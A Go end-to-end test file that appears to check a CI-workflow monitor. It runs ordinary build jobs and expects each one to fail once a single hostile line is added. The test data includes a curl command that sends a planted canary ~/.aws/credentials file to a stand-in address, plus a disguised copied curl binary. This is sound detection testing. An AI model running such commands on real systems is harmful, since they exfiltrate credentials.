package e2e

import (
	"fmt"
	"net"
	"net/http"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"

	"gopkg.in/yaml.v3"
)

// workflowJob is a job that a workflow says and that runs here as it says it.
type workflowJob struct {
	name  string
	needs []string
	uses  []string // actions that would stand before; the machine has what they bring
	steps []string
	files map[string]string
}

// Names that point to this machine's own mirrors are told in env, as a
// workflow behind a mirror has them.
func mirrors(t *testing.T) map[string]string {
	t.Helper()
	env := map[string]string{}
	for name, command := range map[string][]string{
		"NPM_CONFIG_REGISTRY": {"npm", "config", "get", "registry"}, "GOPROXY": {"go", "env", "GOPROXY"},
	} {
		if out, err := exec.Command(command[0], command[1:]...).Output(); err == nil {
			env[name] = strings.TrimSpace(string(out))
		}
	}
	for _, name := range []string{"HTTPS_PROXY", "https_proxy", "HTTP_PROXY", "http_proxy"} {
		if v := os.Getenv(name); v != "" {
			env[name] = v
		}
	}
	return env
}

func jobs(t *testing.T) []workflowJob {
	repo := filepath.Join(t.TempDir(), "upstream.git")
	for _, args := range [][]string{
		{"init", "-q", repo}, {"-C", repo, "config", "user.email", "t@example.com"}, {"-C", repo, "config", "user.name", "t"},
		{"-C", repo, "commit", "-q", "--allow-empty", "-m", "first"},
	} {
		if out, err := exec.Command("git", args...).CombinedOutput(); err != nil {
			t.Fatalf("git %v: %v\n%s", args, err, out)
		}
	}
	return []workflowJob{
		{"npm", []string{"npm", "node"}, []string{"actions/setup-node@v5"}, []string{"npm install --no-audit --no-fund is-number@7.0.0", "node -e 'require(\"is-number\")'"},
			map[string]string{"package.json": `{"name":"watched","version":"1.0.0"}`}},
		{"go", []string{"go"}, []string{"actions/setup-go@v6"}, []string{"go vet ./...", "go test ./...", "go build -o watched ."},
			map[string]string{
				"go.mod":       "module example.com/watched\n\ngo 1.26\n\nrequire golang.org/x/text v0.43.0\n",
				"main.go":      "package main\n\nimport (\n\t\"fmt\"\n\n\t\"golang.org/x/text/language\"\n)\n\nfunc main() { fmt.Println(language.English) }\n",
				"main_test.go": "package main\n\nimport \"testing\"\n\nfunc TestMain(t *testing.T) {}\n",
			}},
		{"apt", []string{"apt-get"}, nil, []string{"apt-get install -y --no-install-recommends --reinstall hello"}, nil},
		{"git", []string{"git"}, nil, []string{"git clone -q file://" + repo + " clone", "git -C clone -c user.name=t -c user.email=t@example.com commit -q --allow-empty -m more", "git -C clone log --oneline | wc -l"}, nil},
		{"make", []string{"make", "cc"}, nil, []string{"make -j2 all"},
			map[string]string{
				"Makefile":  "all: watched\nwatched: watched.c\n\tcc -O1 -o $@ $<\n\t./watched > out.txt\n",
				"watched.c": "#include <stdio.h>\nint main(void) { puts(\"made\"); return 0; }\n",
			}},
	}
}

// run watches the job's steps against the intent derived from its workflow,
// with one more line in its script that the workflow does not have.
func (j *workflowJob) run(t *testing.T, more string) *watched {
	t.Helper()
	in := t.TempDir()
	var steps []map[string]any
	for _, u := range append([]string{"actions/checkout@v5"}, j.uses...) {
		steps = append(steps, map[string]any{"uses": u})
	}
	for _, s := range j.steps {
		steps = append(steps, map[string]any{"run": s})
	}
	env := mirrors(t)
	workflow, err := yaml.Marshal(map[string]any{
		"on": "push", "env": env,
		"jobs": map[string]any{j.name: map[string]any{"runs-on": "ubuntu-latest", "steps": steps}},
	})
	if err != nil {
		t.Fatal(err)
	}
	file := filepath.Join(t.TempDir(), "ci.yml")
	files := map[string]string{file: string(workflow)}
	for name, text := range j.files {
		files[filepath.Join(in, name)] = text
	}
	for name, text := range files {
		if err := os.WriteFile(name, []byte(text), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	home := t.TempDir()
	if err := os.MkdirAll(filepath.Join(home, ".aws"), 0o700); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(filepath.Join(home, ".aws", "credentials"), []byte("[default]\naws_secret_access_key = canary\n"), 0o600); err != nil {
		t.Fatal(err)
	}
	o := options{in: in, flags: []string{"--intent", file}, env: []string{"HOME=" + home, "GOFLAGS=-mod=mod", "CGO_ENABLED=0", "GOPATH=" + filepath.Join(home, "go"), "DEBIAN_FRONTEND=noninteractive"}}
	for k, v := range env {
		o.env = append(o.env, k+"="+v)
	}
	script := strings.Join(append(j.steps, more), "\n")
	return run(t, o, "/bin/bash", "-e", "-c", script)
}

// An ordinary job does what its workflow says.
func TestJobsThatDoWhatTheirWorkflowSaysHaveNoFinding(t *testing.T) {
	for _, j := range jobs(t) {
		t.Run(j.name, func(t *testing.T) {
			need(t, j.needs...)
			w := j.run(t, "")
			if w.code != 0 {
				t.Fatalf("exit code %d\n%s\n%s", w.code, w.stdout, w.stderr)
			}
			w.complete()
			for _, f := range w.verdict.Undeclared {
				t.Logf("undeclared %s: %s %s by %v; %s", f.Severity, f.Verb, f.Object, f.Who, f.Grant)
			}
			w.must(w.verdict.Score <= 9, "score %d", w.verdict.Score)
			w.must(len(w.verdict.Findings) == 0, "findings: %+v", w.verdict.Findings)
		})
	}
}

// One line that the workflow does not have fails each of them.
func TestOneHostileLineFailsAJob(t *testing.T) {
	need(t, "curl", "ip")
	addr := address(t)
	serve(t, listener(t, addr+":8000"), http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) { fmt.Fprintln(w, "ok") }))
	lines := map[string]struct{ line, told string }{
		"a new host":                 {"curl -s http://" + addr + ":8000/ > /dev/null", addr + ":8000"},
		"a credential read and sent": {"curl -s --data-binary @$HOME/.aws/credentials http://" + addr + ":8000/ > /dev/null", "chain"},
		"a write outside":            {"cp /bin/true /opt/posture-test-$$; rm -f /opt/posture-test-$$", "/opt/posture-test-"},
		"an undeclared program":      {"cp /usr/bin/curl ./helper; ./helper -s http://" + addr + ":8000/ > /dev/null", "helper"},
	}
	for _, j := range jobs(t) {
		for what, l := range lines {
			t.Run(j.name+" with "+what, func(t *testing.T) {
				need(t, j.needs...)
				w := j.run(t, l.line)
				w.must(w.verdict.Verdict == "fail", "the verdict is %s, score %d", w.verdict.Verdict, w.verdict.Score)
				var told []string
				for _, f := range w.verdict.Undeclared {
					told = append(told, strings.Join(append([]string{f.Verb, f.Object}, f.Who...), " "))
				}
				w.must(anyContains(told, l.told), "%q is not among what is undeclared: %q", l.told, told)
			})
		}
	}
}

// address gives the machine one more address, which is no loopback address and
// leads nowhere else: the jobs here need the real network too.
func address(t *testing.T) string {
	t.Helper()
	const addr = "198.51.100.77"
	if out, err := exec.Command("ip", "addr", "add", addr+"/32", "dev", "lo").CombinedOutput(); err != nil {
		t.Fatalf("ip addr add: %v\n%s", err, out)
	}
	t.Cleanup(func() { _ = exec.Command("ip", "addr", "del", addr+"/32", "dev", "lo").Run() })
	return addr
}

func listener(t *testing.T, addr string) net.Listener {
	t.Helper()
	l, err := net.Listen("tcp4", addr)
	if err != nil {
		t.Fatal(err)
	}
	return l
}
